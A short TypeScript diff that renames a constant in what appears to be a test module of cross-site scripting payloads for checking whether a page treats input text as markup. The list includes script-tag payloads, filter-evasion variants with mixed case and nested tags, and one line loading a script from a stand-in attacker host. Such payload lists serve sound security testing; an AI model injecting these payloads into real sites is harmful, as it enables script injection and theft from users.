@@ -1,9 +1,9 @@
-/** Leaves a trace if it runs: a dialog or a property of `window`. */
-const run = ['alert(1)', 'window.owned=1'] as const;
+/** Scripts that leave a trace when they run: a dialog or a property of `window`. */
+const scripts = ['alert(1)', 'window.owned=1'] as const;
 
 /** Texts of at most 100 characters that change if a page treats text as markup, style, address or template. */
 export const payloads: readonly string[] = [
-  ...run.map((script) => `<script>${script}</script>`),
+  ...scripts.map((script) => `<script>${script}</script>`),
   '<script src=//evil.test/x.js></script>',
   '<ScRiPt>alert(1)</sCrIpT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
